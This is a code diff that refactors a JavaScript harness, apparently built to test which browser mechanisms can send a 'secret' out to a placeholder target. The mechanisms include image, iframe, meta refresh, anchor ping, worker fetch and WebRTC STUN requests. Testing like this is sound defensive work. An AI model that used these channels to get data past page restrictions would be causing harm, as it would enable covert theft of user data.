@@ -3,7 +3,7 @@
 (() => {
   const target = '%TARGET%';
   const stun = '%STUN%';
-  const url = (name, scheme) => (scheme ? target.replace('http', scheme) : target) + '/' + name + '?secret=' + name;
+  const url = (name, scheme) => `${scheme ? target.replace('http', scheme) : target}/${name}?secret=${name}`;
 
   const element = (tag, attributes, parent = document.body) => {
     const made = document.createElement(tag);
@@ -45,7 +45,7 @@
     image: (n) => {
       new Image().src = url(n);
     },
-    'image-srcset': (n) => element('img', { srcset: url(n) + ' 1x' }),
+    'image-srcset': (n) => element('img', { srcset: `${url(n)} 1x` }),
     'input-image': (n) => element('input', { type: 'image', src: url(n) }),
     'svg-image': (n) => svg('image', { href: url(n), width: 9, height: 9 }, svg('svg', {}, document.body)),
     video: (n) => element('video', { src: url(n), preload: 'auto' }),
@@ -104,9 +104,9 @@
     'anchor-top': (n) => anchor({ href: url(n), target: '_top' }),
     'anchor-download': (n) => anchor({ href: url(n), download: 'x' }),
     'anchor-ping': (n) => anchor({ href: '#x', ping: url(n) }),
-    'meta-refresh': (n) => element('meta', { 'http-equiv': 'refresh', content: '0;url=' + url(n) }, document.head),
+    'meta-refresh': (n) => element('meta', { 'http-equiv': 'refresh', content: `0;url=${url(n)}` }, document.head),
     base: (n) => {
-      element('base', { href: target + '/' }, document.head);
+      element('base', { href: `${target}/` }, document.head);
       element('img', { src: n });
     },
     iframe: (n) => element('iframe', { src: url(n) }),
@@ -146,13 +146,13 @@
       new SharedWorker(URL.createObjectURL(new Blob([`fetch('${url(n)}', { mode: 'no-cors' })`]))),
     'audio-worklet': (n) => new AudioContext().audioWorklet.addModule(url(n)),
     webrtc: async () => {
-      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + stun }] });
+      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stun}` }] });
       peer.createDataChannel('x');
       await peer.setLocalDescription(await peer.createOffer());
     },
     'webrtc-iframe': async () => {
       const { RTCPeerConnection: Peer } = element('iframe', {}).contentWindow;
-      const peer = new Peer({ iceServers: [{ urls: 'stun:' + stun }] });
+      const peer = new Peer({ iceServers: [{ urls: `stun:${stun}` }] });
       peer.createDataChannel('x');
       await peer.setLocalDescription(await peer.createOffer());
     },
